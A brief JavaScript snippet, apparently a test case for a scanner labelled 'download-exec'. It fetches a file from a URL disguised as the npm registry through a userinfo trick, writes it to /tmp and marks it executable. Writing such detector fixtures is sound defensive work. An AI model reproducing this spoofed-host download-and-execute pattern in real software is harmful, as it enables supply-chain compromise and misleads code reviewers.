// userinfo before '@' is not the host: registry.npmjs.org@evil is evil.
const fs = require("fs");
const { spawnSync } = require("child_process");
async function main() {
  const res = await fetch("https://registry.npmjs.org@files.example.net/x.tgz");
  fs.writeFileSync("/tmp/x", Buffer.from(await res.arrayBuffer()));
  fs.chmodSync("/tmp/x", 0o755); // expect: download-exec
}
main();
